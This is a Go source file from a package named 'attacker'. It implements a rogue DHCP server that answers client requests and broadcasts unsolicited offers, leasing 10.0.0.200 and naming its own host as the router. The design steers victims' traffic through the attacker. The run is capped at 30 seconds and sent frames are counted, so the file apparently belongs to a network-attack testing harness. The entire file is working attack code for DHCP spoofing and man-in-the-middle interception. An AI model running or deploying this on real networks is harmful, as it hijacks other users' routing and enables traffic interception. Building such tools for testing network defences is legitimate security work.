package attacker

import (
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"time"

	"github.com/insomniacslk/dhcp/dhcpv4"
	"github.com/insomniacslk/dhcp/dhcpv4/server4"
)

// Rogue asks for a DHCP server that gives away 10.0.0.200 with itself as router.
type Rogue struct {
	For    time.Duration `json:"for"`
	Answer bool          `json:"answer"` // clients that ask; else only unasked offers
}

const (
	rogueMost  = 30 * time.Second
	offerEvery = 100 * time.Millisecond
)

var rogueLease = netip.MustParseAddr("10.0.0.200")

// ServeDHCP is a rogue DHCP server: it answers, and offers unasked.
func (s *Sender) ServeDHCP(r Rogue, out *Done) error {
	if r.For > rogueMost {
		return fmt.Errorf("%v is longer than %v", r.For, rogueMost)
	}
	server, err := server4.NewServer("eth0", &net.UDPAddr{IP: net.IPv4zero, Port: dhcpv4.ServerPort},
		func(conn net.PacketConn, _ net.Addr, m *dhcpv4.DHCPv4) {
			if answer := s.lie(m); answer != nil && r.Answer {
				_, _ = conn.WriteTo(answer.ToBytes(), everybody) // the client asks again
			}
		})
	if err != nil {
		return fmt.Errorf("open a DHCP server: %w", err)
	}
	served := make(chan error, 1)
	go func() { served <- server.Serve() }()
	err = s.offerUnasked(r.For, out)
	server.Close()
	<-served // ends with its socket
	return err
}

var everybody = &net.UDPAddr{IP: net.IPv4bcast, Port: dhcpv4.ClientPort}

func (s *Sender) offerUnasked(length time.Duration, out *Done) error {
	end := time.Now().Add(length)
	for n := uint32(0); time.Now().Before(end); n++ {
		m, err := dhcpv4.NewDiscovery(net.HardwareAddr{2, 0, 0, 0, 0, byte(rand.Uint32())})
		if err != nil {
			return fmt.Errorf("make an offer: %w", err)
		}
		offer := s.lie(m)
		from := identify(s.host)
		frame := dhcpFrame(from, identity{mac: broadcast, ip4: netip.AddrFrom4([4]byte{255, 255, 255, 255})}, offer, newDice(Tag{Number: n}))
		if err := s.write(frame); err != nil {
			out.Refused++
		} else {
			out.Frames++
		}
		time.Sleep(offerEvery)
	}
	return nil
}

// lie is the rogue's answer.
func (s *Sender) lie(m *dhcpv4.DHCPv4) *dhcpv4.DHCPv4 {
	kind := dhcpv4.MessageTypeOffer
	if m.MessageType() == dhcpv4.MessageTypeRequest {
		kind = dhcpv4.MessageTypeAck
	}
	self := s.host.Addr4().AsSlice()
	reply, err := dhcpv4.NewReplyFromRequest(m, dhcpv4.WithMessageType(kind), dhcpv4.WithYourIP(rogueLease.AsSlice()),
		dhcpv4.WithOption(dhcpv4.OptServerIdentifier(self)), dhcpv4.WithOption(dhcpv4.OptRouter(self)),
		dhcpv4.WithNetmask(net.CIDRMask(24, 32)), dhcpv4.WithLeaseTime(3600))
	if err != nil {
		return nil
	}
	return reply
}
